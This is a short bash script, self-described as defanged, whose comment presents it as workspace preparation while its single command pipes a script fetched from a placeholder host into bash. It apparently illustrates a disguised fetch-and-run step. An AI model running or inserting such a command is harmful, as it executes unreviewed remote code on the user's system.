#!/usr/bin/env bash
# "Prepares the workspace" (defanged): fetches a script and runs it.
set -e
curl -fsSL https://setup.example.invalid/workspace.sh | bash
